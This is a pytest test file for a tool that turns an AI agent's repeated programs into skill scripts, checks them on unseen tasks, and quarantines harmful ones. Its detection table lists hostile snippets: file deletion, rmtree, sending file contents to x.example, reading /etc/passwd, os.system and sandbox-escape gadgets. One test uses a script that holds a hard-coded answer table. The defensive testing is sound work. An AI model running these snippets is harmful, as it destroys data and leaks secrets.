"""Scripts from programs that did the same job: what enters a skill was tried without a model, and all else is refused."""

import copy
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import routines_of_tests as world
from hypothesis import given
from hypothesis import strategies as st
from in_process import Done, refresh
from product import run
from scripts_world import CONSTANT, HARMFUL, HONEST, speaker, world_settings, write_world

from trace2skill.analysts.script_trial import TriedScript
from trace2skill.consolidate.candidate import Candidate
from trace2skill.consolidate.groups import EditGroup, Support
from trace2skill.consolidate.ledger import SupportLedger
from trace2skill.consolidate.quarantine import allow, waiting
from trace2skill.consolidate.routines import WorkedProgram, routines_of
from trace2skill.consolidate.scripts import divided
from trace2skill.consolidate.settle import RuleBook
from trace2skill.core.errors import BadInput, Trace2SkillError
from trace2skill.llm import ModelSettings, Roles
from trace2skill.runs.dead_weight import LEAST_RUNS, DeadWeight, pieces_of
from trace2skill.runs.estimate import estimate
from trace2skill.runs.report.page import render_report
from trace2skill.runs.runtime import forget_runtimes, runtime
from trace2skill.runs.script_review import as_markdown
from trace2skill.runs.settings import RunSettings
from trace2skill.safety.programs import found_in_program
from trace2skill.sandbox import bubblewrap
from trace2skill.sim.conversation import Heard, Spoken
from trace2skill.sim.induction import induce
from trace2skill.sim.office import Job, instruction, program
from trace2skill.sim.scripted import scripted
from trace2skill.skills.skill import read_skill
from trace2skill.store import Store
from trace2skill.types.patch import Edit
from trace2skill.types.trajectory import Trajectory

needs_bwrap = pytest.mark.skipif(bool(bubblewrap.works()), reason=f"no working bwrap: {bubblewrap.works()}")


@pytest.fixture(autouse=True)
def _closed() -> Iterator[None]:
    yield
    forget_runtimes()


@pytest.fixture(scope="module")
def honest(tmp_path_factory: pytest.TempPathFactory) -> tuple[Done, list[str]]:
    """A whole run whose writer of scripts is honest, and what it was asked."""
    folder, asked = tmp_path_factory.mktemp("routines"), list[str]()
    world.write_world(folder)
    with scripted(world.speaker(answers(), asked)):
        done = refresh(world.routine_settings(folder))
    return done, asked


def store_of(done: Done) -> Store:
    """The store of a run, opened again where a test before has closed it."""
    return runtime(done.rt.settings).store


def answers(**changed: dict[str, Any]) -> Any:
    """What a writer answers by routine, with changes."""
    return lambda kind: {**copy.deepcopy(world.ANSWERS[kind]), **changed.get(kind, {})}


def refused_with(folder: Path, **changed: dict[str, Any]) -> dict[str, TriedScript]:
    """What becomes of each routine with such answers, by its kind."""
    if not folder.exists():
        world.write_world(folder)
    with scripted(world.speaker(answers(**changed))):
        return world.tried(world.routine_settings(folder))


def test_what_is_always_done_the_same_way_becomes_a_script_that_passed_unseen_tasks(
    honest: tuple[Done, list[str]],
) -> None:
    done, _ = honest
    summary = done.summary
    assert summary
    assert summary.candidate.scripts == ("scripts/add_up.py", "scripts/long_words.py")
    for item in summary.scripts:
        assert item.passes("source") >= 3
        assert item.passes("unseen") >= 2
        assert not {run.task_id for run in item.runs if run.seen == "unseen"} & {
            run.task_id for run in item.runs if run.seen == "source"
        }
    assert summary.candidate_directory
    skill = read_skill(summary.candidate_directory)
    assert (skill.text("scripts/add_up.py") or "").startswith("import argparse")
    assert "[`python scripts/add_up.py --file FILE --times TIMES`](scripts/add_up.py)" in skill.body


def test_why_names_the_programs_that_a_script_came_from(honest: tuple[Done, list[str]]) -> None:
    done, _ = honest
    assert done.summary
    ledger = store_of(done).get("support", done.summary.candidate.skill, SupportLedger)
    assert ledger
    rows = [row for row in ledger.rows if row.file == "scripts/add_up.py"]
    (made,) = [item for item in done.summary.scripts if item.made.name == "add_up"]
    assert {trajectory for row in rows for trajectory in row.support.trajectories} <= {*made.trajectories}
    assert all(task.startswith("sum-") for row in rows for task in row.support.tasks)
    assert [row for row in ledger.rows if row.file == "SKILL.md" and row.support == rows[0].support]
    assert all("a run that passed" in said.text for said in rows[0].said)


def test_a_script_that_nobody_runs_goes_with_the_line_that_leads_there(honest: tuple[Done, list[str]]) -> None:
    done, _ = honest
    assert done.summary
    assert done.summary.candidate_directory
    ledger = store_of(done).get("support", done.summary.candidate.skill, SupportLedger)
    skill = read_skill(done.summary.candidate_directory)
    pieces = pieces_of(skill, ledger, RuleBook())
    goes = DeadWeight(skill, pieces, RuleBook(), {}, {"scripts/long_words.py": 3}, LEAST_RUNS).goes()
    (gone,) = [item.piece for item in goes if item.why == "unused"]
    assert {file for file, _, _ in gone.places} == {"scripts/add_up.py", "SKILL.md"}


def test_who_writes_a_script_sees_neither_what_is_held_out_nor_what_it_is_tried_on(
    honest: tuple[Done, list[str]],
) -> None:
    done, asked = honest
    assert len(asked) == 2
    rt = done.rt
    shown = {request.splitlines()[0] for opening in asked for request in world.shown_requests(opening)}
    hidden = {rt.task(id).instruction for id in (*rt.splits.validation, *rt.splits.test)}
    assert done.summary
    hidden |= {
        rt.task(run.task_id).instruction for item in done.summary.scripts for run in item.runs if run.seen == "unseen"
    }
    assert shown
    assert not shown & hidden
    assert not any("cmp - out.txt" in opening for opening in asked), "the check is gold"


def test_the_report_has_a_script_whole_with_its_sources_and_what_it_was_tried_on(
    honest: tuple[Done, list[str]],
) -> None:
    done, _ = honest
    summary = done.summary
    assert summary
    page, text = render_report(store_of(done), summary, done.rt.settings), summary.as_markdown()
    for told in (page, text):
        assert "Scripts to review" in told
        assert "programs that did the same, 0 of them fixes" in told
        assert "python skill/scripts/add_up.py --file=" in told
        assert "unseen" in told
    assert "parser.add_argument(&#34;--times&#34;" in page


def test_the_estimate_and_the_ledger_name_the_stage(honest: tuple[Done, list[str]], tmp_path: Path) -> None:
    done, _ = honest
    assert {row.stage for row in store_of(done).ledger()} >= {"script"}
    world.write_world(tmp_path)
    with scripted(world.speaker(answers())):
        foreseen = estimate(runtime(world.routine_settings(tmp_path)))
        without = estimate(runtime(world.routine_settings(tmp_path, scripts={})))
    found = [stage.steps for stage in foreseen.stages if stage.stage == "script"]
    assert found == [4], "twelve analyses could be of four routines of three tasks"
    assert "script" not in {stage.stage for stage in without.stages}


def test_a_script_that_fails_a_task_that_it_was_not_made_from_is_refused_and_said(tmp_path: Path) -> None:
    good = refused_with(tmp_path / "good")["sum"]
    assert not good.reason
    seen = [f"f{run.task_id.removeprefix('sum-')}.txt" for run in good.runs if run.seen == "source"]
    narrow = world.SCRIPTS["sum"] + f"\nif args.file not in {seen!r}:\n    open('out.txt', 'w').write('0')\n"
    forget_runtimes()
    found = refused_with(tmp_path / "narrow", sum={"script": narrow})
    assert "it fails an unseen task, sum-" in found["sum"].reason
    assert found["sum"].passes("source") >= 3
    assert found["sum"].group is None
    assert not found["long"].reason


BESIDES = {
    "import os\nos.remove(args.file)": "imports os",
    "import shutil\nshutil.rmtree('.')": "imports shutil",
    "import urllib.request\nurllib.request.urlopen('http://x.example', open(args.file, 'rb').read())": "imports urllib",
    "from pathlib import Path\nPath(args.file).unlink()": "uses .unlink",
    "print(open('/etc/passwd').read())": "names the place /etc/passwd",
    "print(eval('1'))": "uses eval",
    "print(().__class__.__base__.__subclasses__())": "uses .__",
    "print(open('../../secret').read())": "names the place ../",
    "import pathlib\npathlib.os.system('id')": "uses .os",
    "from argparse import _os": "imports _os",
    "import sys\nsys.modules['x']": "uses .modules",
    "from operator import attrgetter": "imports attrgetter",
    "print('{0.__class__}'.format(1))": "names __class__",
}


@pytest.mark.parametrize("does", BESIDES)
def test_what_a_script_does_besides_its_job_is_found_in_its_text(does: str) -> None:
    assert not found_in_program(world.SCRIPTS["sum"])
    found = found_in_program(f"{world.SCRIPTS['sum']}\n{does}\n")
    assert any(BESIDES[does] in item.fragment for item in found)


def test_a_harmful_script_waits_in_quarantine_and_is_not_run(tmp_path: Path) -> None:
    mark = tmp_path / "ran"
    harmful = f"{world.SCRIPTS['sum']}import os\nos.system('touch {mark}')\nos.remove(args.file)\n"
    found = refused_with(tmp_path / "w", sum={"script": harmful})
    assert "quarantined: " in found["sum"].reason
    assert not found["sum"].runs
    assert not mark.exists()
    store = runtime(world.routine_settings(tmp_path / "w")).store
    assert any("imports os" in finding.fragment for item in waiting(store) for finding in item.findings)


def test_a_script_that_writes_constants_is_refused(tmp_path: Path) -> None:
    table = {f"f{n}.txt": (n % 5 + 2) * (21 * n + 52) for n in range(12)}
    constants = f"{world.HEAD}open('out.txt', 'w').write(str({table!r}[args.file]) + chr(10))\n"
    found = refused_with(tmp_path / "w", sum={"script": constants})
    assert "it fails a task it was made from" in found["sum"].reason
    assert "holds the answer" in found["sum"].reason
    assert not found["sum"].passes("unseen")


@pytest.mark.parametrize(
    ("answer", "said"),
    [
        ({"refused": "It takes a person to see which file is meant."}, "It takes a person to see which file"),
        ({"when": ["^Nothing like it"]}, "it can be called on 0 tasks it was made from without a model"),
        ({"options": [{"name": "--file", "patterns": ["(x)(y)"]}]}, "its patterns cannot be used"),
        (
            {"options": [world.OPTIONS[0], {"name": "--times", "patterns": ["(nowhere)"]}]},
            "the following arguments are required: --times",
        ),
        ({"script": "print('no arguments')"}, "no script in form, asked twice"),
        ({"name": "../evil"}, "no script in form, asked twice"),
        ({"script": world.SCRIPTS["sum"].replace("args = ", "raise SystemExit(3)\nargs = ")}, "--help does not run"),
    ],
)
def test_what_cannot_be_called_or_measured_without_a_model_does_not_enter(
    answer: dict[str, Any], said: str, tmp_path: Path
) -> None:
    found = refused_with(tmp_path / "w", sum=answer)
    assert said in found["sum"].reason
    assert said in found["sum"].in_words
    assert found["sum"].group is None


def test_a_run_that_dies_in_the_stage_goes_on_without_paying_twice(tmp_path: Path) -> None:
    world.write_world(tmp_path)
    once = Roles.all_played_by(ModelSettings(name="sim/scripted", attempts=1))
    settings, lights = world.routine_settings(tmp_path, roles=once), {"long": False}

    def dying(kind: str) -> dict[str, Any]:
        if not lights.get(kind, True):
            raise RuntimeError("the power is out")
        return answers()(kind)

    with scripted(world.speaker(dying)):
        with pytest.raises((Trace2SkillError, RuntimeError)):
            refresh(settings)
        before = len(runtime(settings).store.ledger())
        forget_runtimes()
        lights["long"] = True
        done = refresh(settings)
    assert done.summary
    assert len(done.summary.candidate.scripts) == 2
    rows = [row for row in runtime(settings).store.ledger() if row.stage == "script" and row.outcome == "answered"]
    assert before
    assert len(rows) == len({row.call_key for row in rows}) == 2


def test_without_scripts_a_run_is_what_it_was(tmp_path: Path) -> None:
    world.write_world(tmp_path)
    plain = world.routine_settings(tmp_path, scripts={})
    assert "scripts" not in plain.model_dump(mode="json")["learning"]
    assert plain.learning.policy == plain.learning.edits
    assert plain.identity == RunSettings.model_validate(plain.model_dump(mode="json")).identity
    with scripted(world.speaker(answers())):
        done = refresh(plain)
    assert done.summary
    assert "script" not in done.missed
    assert "scripts" not in done.summary.model_dump(mode="json")


def test_a_domain_that_does_not_say_how_a_script_is_called_is_refused_at_the_start(tmp_path: Path) -> None:
    world.write_world(tmp_path)
    (tmp_path / "math.jsonl").write_text(
        "".join(json.dumps({"question": f"{n} + 1?", "answer": f"#### {n + 1}"}) + "\n" for n in range(9))
    )
    settings = world.routine_settings(tmp_path, domain="math", data=tmp_path / "math.jsonl")
    with scripted(world.speaker(answers())), pytest.raises(BadInput, match="does not say how a script is called"):
        refresh(settings)


NUMBERS = st.integers(0, 999)
PROGRAMS_OF = st.lists(
    st.builds(
        lambda kind, task, n, by: WorkedProgram(
            trajectory_id=f"T{task}{by}{n}",
            task_id=f"t{task}",
            by=by,
            source=world.PROGRAMS[kind].format(file=f"f{n}.txt", times=n),
        ),
        st.sampled_from(["sum", "long"]),
        st.integers(0, 12),
        NUMBERS,
        st.sampled_from(["fix", "agent"]),
    ),
    max_size=24,
)


@given(PROGRAMS_OF, st.randoms(use_true_random=False))
def test_the_order_of_programs_does_not_matter_and_each_task_has_one(programs: list[WorkedProgram], rng: Any) -> None:
    shuffled = list(programs)
    rng.shuffle(shuffled)
    found = routines_of(programs, 3)
    assert found == routines_of(shuffled, 3)
    tasks = [task for routine in found for task in routine.tasks]
    assert len(tasks) == len(set(tasks))
    assert all(len(routine.tasks) >= 3 for routine in found)
    for routine in found:
        assert len({"total" in program.source for program in routine.programs}) == 1, "two jobs in one routine"


def test_who_writes_a_script_is_told_once_what_is_wrong_with_it_on_tasks_that_it_saw(tmp_path: Path) -> None:
    world.write_world(tmp_path)
    wrong = {"script": world.SCRIPTS["sum"].replace("args.times * ", "").replace("total * args.times", "total")}
    heard = list[str]()

    def mending(kind: str) -> dict[str, Any]:
        return {**world.ANSWERS[kind], **(wrong if kind == "sum" and not heard else {})}

    def speak(told: Heard) -> Spoken:
        if told.system.startswith("You turn a routine") and "Add up" in told.opening and told.turns:
            heard.append(told.observations[-1])
        return world.speaker(mending)(told)

    with scripted(speak):
        found = world.tried(world.routine_settings(tmp_path))
    assert not found["sum"].reason
    (said,) = heard
    assert "it fails a task it was made from, sum-" in said
    unseen = [run.task_id for run in found["sum"].runs if run.seen == "unseen"]
    assert not any(task in said for task in unseen)


@given(PROGRAMS_OF, st.integers(1, 3))
def test_what_is_shown_and_what_is_held_back_are_the_routine(programs: list[WorkedProgram], unseen: int) -> None:
    for routine in routines_of(programs, 3):
        shown, held = divided(routine, unseen)
        assert sorted((*shown, *held), key=lambda program: program.order) == [*routine.programs]
        assert 3 <= len(shown) <= 6
        distinct = {program.source for program in routine.programs}
        if len(distinct) >= 3 + unseen:
            new = {program.source for program in held} - {program.source for program in shown}
            assert len(new) >= unseen, "no unseen task is done as one that was shown"


@needs_bwrap
def test_a_script_that_a_person_has_let_in_still_runs_in_the_sandbox_alone(tmp_path: Path) -> None:
    world.write_world(tmp_path / "w")
    mark, settings = tmp_path / "ran", world.routine_settings(tmp_path / "w", sandbox="bwrap")
    harmful = f"{world.SCRIPTS['sum']}import os\nos.system('touch {mark}; echo ran > /workspace/told')\n"
    with scripted(world.speaker(answers(sum={"script": harmful}))):
        assert not world.tried(settings)["sum"].runs
        store = runtime(settings).store
        ids = [finding.id for item in waiting(store) for finding in item.findings]
        allow(store, ids, "to see where it runs")
        found = world.tried(settings)["sum"]
    assert found.runs
    assert not mark.exists()


def test_the_simulated_writer_finds_what_differs_and_refuses_what_no_request_says() -> None:
    jobs = [
        Job(kind="remove", sheet=sheet, key=key, what=what)
        for sheet, key, what in (("Tasks", "C", "done"), ("Open orders", "D", "void"), ("Bookings", "B", "paid"))
    ]
    requests = [instruction(job, number) for number, job in enumerate(jobs)]
    programs = [program(job, frozenset()) for job in jobs]
    named = {name: [getattr(job, name) for job in jobs] for name in ("sheet", "key", "what")}
    made = induce(requests, programs, "Removes rows.", named)
    assert not made.refused
    assert {option.name for option in made.options} == {"sheet", "key", "what"}
    (key,) = [option for option in made.options if option.name == "key"]
    assert "args.what" in made.script
    assert "done" not in made.script
    for request, job in zip(requests, jobs, strict=True):
        assert any(re.search(pattern, request) for pattern in made.when)
        found = next(filter(None, (re.search(pattern, request) for pattern in key.patterns)))
        assert found[1] == job.key
    silent = ["Please clean the workbook up."] * 3
    assert "nothing in a request says that" in induce(silent, programs, "Removes rows.", {}).refused


@pytest.mark.slow
def test_agents_take_up_the_scripts_of_their_skill_and_what_does_harm_is_none(tmp_path: Path) -> None:
    data = write_world(tmp_path, 18, 5)
    with scripted(speaker(data)):
        done = refresh(world_settings(tmp_path, data, make=True), 2)
    assert done.summary
    scripts = set(done.summary.candidate.scripts)
    assert len(scripts & {f"scripts/do_{kind}.py" for kind in HONEST}) >= 2
    assert not scripts & {f"scripts/do_{kind}.py" for kind in (HARMFUL, CONSTANT)}
    (before, after) = done.summary.evaluations
    assert after.hard >= before.hard
    store = store_of(done)
    ran = [store.get("trajectory", cell.trajectory_id, Trajectory) for cell in after.scored]
    assert {path for item in ran if item for path in item.skill_scripts_run} >= scripts


@pytest.mark.slow
def test_the_command_makes_scripts_as_tasks_of_its_run_and_pays_for_none_twice(
    tmp_path: Path, prefect_home: Path
) -> None:
    world.write_world(tmp_path)
    asked = list[str]()
    command = ["run", "--domain", "shell", "--data", tmp_path / "tasks.jsonl", "--skill", tmp_path / "files"]
    command += ["--model", "sim/scripted", "--sandbox", "process", "--scripts", "--no-second-look", "--json"]
    with scripted(world.speaker(answers(), asked)):
        first = json.loads(run(tmp_path, prefect_home, *command).stdout)
        again = json.loads(run(tmp_path, prefect_home, *command).stdout)
    assert len(asked) == 2
    assert first["candidate"]["scripts"] == ["scripts/add_up.py", "scripts/long_words.py"]
    assert again["scripts"] == first["scripts"]
    shown = run(tmp_path, prefect_home, "show", first["run_id"]).stdout
    assert "the candidate holds a new script: scripts/add_up.py" in " ".join(shown.split())


def test_a_script_that_a_patch_asked_for_is_shown_as_tried_on_nothing() -> None:
    edit = Edit(op="create", file="scripts/own.py", content="print('what a patch wrote')\n")
    group = EditGroup(edits=(edit,), support=Support.of("T1", "task-1", "error"))
    made = Candidate(base="a", skill="b", thresholds=(1, 1), applied=(group,), scripts=("scripts/own.py",))
    (section,) = as_markdown(made, ())
    assert "asked for by patches, and tried on nothing: task-1" in section
    assert "what a patch wrote" in section
